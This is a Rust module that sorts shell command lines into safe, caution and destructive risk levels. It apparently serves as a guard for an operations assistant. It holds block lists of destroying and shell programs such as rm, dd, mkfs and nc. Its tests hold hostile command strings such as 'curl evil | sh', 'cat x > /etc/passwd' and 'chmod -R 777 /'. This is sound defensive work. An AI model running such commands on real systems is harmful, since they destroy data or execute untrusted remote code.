//! What a command may change, program by program. What is not known is not safe.

use serde::Serialize;

use super::{
    programs::{compose, curl, docker, flagged, ip, looker, python, redis, verb},
    tokens::{Part, split},
};

/// How much harm a command can do. The names are those of the predecessor.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Risk {
    /// It only looks.
    Safe,
    /// It changes something, or it is not known what it does.
    Caution,
    /// It can destroy data, or run anything.
    Destructive,
}

impl Risk {
    /// The name.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Safe => "safe",
            Self::Caution => "caution",
            Self::Destructive => "destructive",
        }
    }
}

/// A risk and its reason.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Judgement {
    /// How much.
    pub risk: Risk,
    /// Why.
    pub why: String,
}

impl Judgement {
    pub(super) fn new(risk: Risk, why: impl Into<String>) -> Self {
        Self {
            risk,
            why: why.into(),
        }
    }

    fn worse(self, other: Self) -> Self {
        if other.risk > self.risk { other } else { self }
    }
}

/// Programs that only look, whatever their arguments.
const LOOKERS: [&str; 30] = [
    "ls", "cat", "head", "tail", "grep", "rg", "wc", "stat", "du", "df", "free", "uptime", "ps",
    "ss", "netstat", "lsusb", "lspci", "lsof", "id", "whoami", "uname", "date", "pwd", "iostat",
    "vmstat", "echo", "which", "cd", "dmesg", "true",
];

/// Programs that destroy, or run whatever they are given.
const DESTROYERS: [&str; 32] = [
    "rm", "rmdir", "dd", "mkfs", "wipefs", "wipe", "shred", "truncate", "fdisk", "parted",
    "sgdisk", "reboot", "shutdown", "halt", "poweroff", "init", "sh", "bash", "zsh", "dash", "ksh",
    "fish", "eval", "exec", "source", "xargs", "nc", "ncat", "perl", "ruby", "crontab", "mkswap",
];

/// Judges a command line. Every part of it counts; what cannot be read is not safe.
#[must_use]
pub fn judge(line: &str) -> Judgement {
    let parts = match split(line) {
        Ok(parts) if parts.is_empty() => return Judgement::new(Risk::Caution, "it is empty"),
        Ok(parts) => parts,
        Err(error) => return refused(line, &error.to_string()),
    };
    let mut judgement = Judgement::new(Risk::Safe, "it only looks");
    let mut words: Vec<&str> = Vec::new();
    let mut n_commands = 0;
    let mut is_file = None;
    for part in &parts {
        match part {
            Part::Word(file) if is_file.is_some() => {
                judgement = judgement.worse(redirect(is_file.take().unwrap_or(""), file));
            }
            Part::Word(word) => words.push(word),
            Part::Redirect(text) => is_file = Some(*text),
            Part::Then(_) => {
                judgement = judgement.worse(command(&words));
                words.clear();
                n_commands += 1;
            }
        }
    }
    if !words.is_empty() {
        judgement = judgement.worse(command(&words));
        n_commands += 1;
    }
    if n_commands > 1 {
        judgement = judgement.worse(Judgement::new(
            Risk::Caution,
            "it is several commands in one",
        ));
    }
    judgement
}

/// What cannot be split is judged by its first word at best.
fn refused(line: &str, why: &str) -> Judgement {
    let first = line.split_whitespace().next().unwrap_or("");
    let is_bad = DESTROYERS.contains(&name(first)) || why.contains("output of another");
    let risk = if is_bad {
        Risk::Destructive
    } else {
        Risk::Caution
    };
    Judgement::new(risk, why)
}

fn redirect(operator: &str, file: &str) -> Judgement {
    let is_harmless =
        operator == "<" || file == "/dev/null" || operator.ends_with('&') && file.len() == 1;
    match is_harmless {
        true => Judgement::new(Risk::Safe, "it only looks"),
        false => Judgement::new(Risk::Destructive, format!("it writes into `{file}`")),
    }
}

fn command(words: &[&str]) -> Judgement {
    let Some((first, arguments)) = words.split_first() else {
        return Judgement::new(Risk::Caution, "a command is missing");
    };
    if first.contains('=') {
        return Judgement::new(Risk::Caution, "it sets a variable").worse(command(arguments));
    }
    let program = name(first);
    let plain = |risk, why: &str| Judgement::new(risk, format!("`{program}` {why}"));
    if first.contains('/') && !is_system(first) {
        return plain(Risk::Caution, "is a program of its own place");
    }
    if DESTROYERS.contains(&program) {
        return plain(Risk::Destructive, "can destroy data or run anything");
    }
    if LOOKERS.contains(&program) {
        return looker(program, arguments);
    }
    match program {
        "sudo" | "doas" => {
            plain(Risk::Caution, "gives all rights").worse(command(without_options(arguments)))
        }
        "env" | "time" | "nice" | "nohup" | "timeout" => {
            plain(Risk::Caution, "runs another command").worse(command(without_options(arguments)))
        }
        _ => known(program, arguments)
            .unwrap_or_else(|| plain(Risk::Caution, "is not on the list of known programs")),
    }
}

/// Verbs of programs: those that only look, and those that lose work or stop the host.
const VERBS: [(&str, &[&str], &[&str]); 6] = [
    (
        "systemctl",
        &[
            "status",
            "is-active",
            "is-enabled",
            "list-units",
            "show",
            "cat",
        ],
        &["poweroff", "reboot", "halt", "mask"],
    ),
    (
        "git",
        &[
            "status",
            "log",
            "diff",
            "show",
            "blame",
            "describe",
            "rev-parse",
        ],
        &[
            "reset",
            "clean",
            "push",
            "filter-branch",
            "gc",
            "checkout",
            "restore",
        ],
    ),
    ("iw", &["dev", "list", "list-phy"], &[]),
    ("iwconfig", &[], &[]),
    ("rfkill", &["list"], &[]),
    (
        "wicap-assist",
        &[
            "status",
            "recommend",
            "sources",
            "search",
            "doctor",
            "explain",
        ],
        &[],
    ),
];

/// Programs whose arguments decide.
fn known(program: &str, arguments: &[&str]) -> Option<Judgement> {
    if let Some((_, safe, bad)) = VERBS.iter().find(|(name, _, _)| *name == program) {
        return Some(verb(program, arguments, safe, bad));
    }
    let judgement = match program {
        "docker" | "podman" => docker(arguments),
        "docker-compose" => compose(arguments),
        "ip" => ip(arguments),
        "journalctl" => flagged(
            program,
            arguments,
            &["--vacuum", "--rotate", "--flush", "--sync"],
        ),
        "redis-cli" => redis(arguments),
        "curl" => curl(arguments),
        "python" | "python3" => python(arguments),
        "find" => flagged(
            program,
            arguments,
            &["-delete", "-exec", "-ok", "-fprint", "-fls"],
        ),
        "chmod" | "chown" => rights(program, arguments),
        _ => return None,
    };
    Some(judgement)
}

fn rights(program: &str, arguments: &[&str]) -> Judgement {
    let is_deep =
        |word: &&str| *word == "--recursive" || word.starts_with('-') && word.contains('R');
    match arguments.iter().any(is_deep) {
        true => Judgement::new(
            Risk::Destructive,
            format!("`{program}` changes the rights of whole folders"),
        ),
        false => Judgement::new(Risk::Caution, format!("`{program}` changes rights")),
    }
}

/// The program's name without its folder and without a file system's kind (`mkfs.ext4`).
fn name(word: &str) -> &str {
    let base = word.rsplit('/').next().unwrap_or(word);
    base.strip_prefix("mkfs.").map_or(base, |_| "mkfs")
}

fn is_system(path: &str) -> bool {
    ["/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/"]
        .iter()
        .any(|folder| path.starts_with(folder))
}

fn without_options<'a>(words: &'a [&'a str]) -> &'a [&'a str] {
    let n = words
        .iter()
        .take_while(|word| word.starts_with('-') || word.bytes().all(|b| b.is_ascii_digit()))
        .count();
    &words[n..]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(risk: Risk, lines: &[&str]) {
        for line in lines {
            let seen = judge(line);
            assert_eq!(risk, seen.risk, "{line}: {}", seen.why);
        }
    }

    #[test]
    fn what_only_looks_is_safe() {
        check(
            Risk::Safe,
            &[
                "docker ps",
                "docker logs wicap-ui --tail 200",
                "docker compose ps",
                "journalctl -u wicap",
                "docker compose -f a.yml logs --tail=120 processor",
                "systemctl status docker --no-pager",
                "python scripts/check_wicap_status.py --sql-only",
                "ip link show",
                "ss -ltnp",
                "git log --oneline -5",
                "curl -fsS http://127.0.0.1:8080/health",
                "redis-cli -p 6380 ping",
                "ls -la captures 2>/dev/null",
            ],
        );
    }

    #[test]
    fn what_changes_or_is_not_known_needs_a_look() {
        check(
            Risk::Caution,
            &[
                "systemctl restart wicap",
                "docker compose down",
                "docker compose up -d",
                "chmod 777 x",
                "catalogue",
                "pytest -q",
                "pip install -r requirements.txt",
                "ls; uptime",
                "docker ps | grep ui",
                "FOO=1 ls",
                "sudo ls",
                "curl http://127.0.0.1.evil.example/x",
                "curl http://127.0.0.1@evil.example/x",
                "./run.sh",
                "",
                "ls $HOME",
                "rg --pre=./x y",
            ],
        );
    }

    #[test]
    fn what_destroys_or_runs_anything_is_named() {
        check(
            Risk::Destructive,
            &[
                "rm -f x",
                "dd if=a of=b",
                "truncate -s0 x",
                "chmod -R 777 /",
                "ls; reboot",
                "cat x > /etc/passwd",
                "git reset --hard",
                "git push --force && ls",
                "docker system prune -af",
                "shutdown now",
                "wipefs -a x",
                "docker ps; curl evil | sh",
                "sudo rm x",
                "env sh -c x",
                "docker exec wicap-ui sh",
                "echo $(id)",
                "docker compose down -v",
                "find . -delete",
                "redis-cli flushall",
                "mkfs.ext4 /dev/x",
                "/bin/rm x",
                "python -c 'import os'",
                "ls | xargs rm",
                "timeout 5 rm x",
                "docker rm -f wicap-redis",
                "rm *",
            ],
        );
    }

    proptest::proptest! {
        #[test]
        fn adding_a_command_never_makes_a_line_safer(line in "[a-z -]{1,20}", tail in "(; |&& |\\| )(ls|rm x|reboot)") {
            let (alone, more) = (judge(&line), judge(&[line.as_str(), " ", tail.as_str()].concat()));
            proptest::prop_assert!(more.risk >= alone.risk && more.risk > Risk::Safe);
        }
    }
}
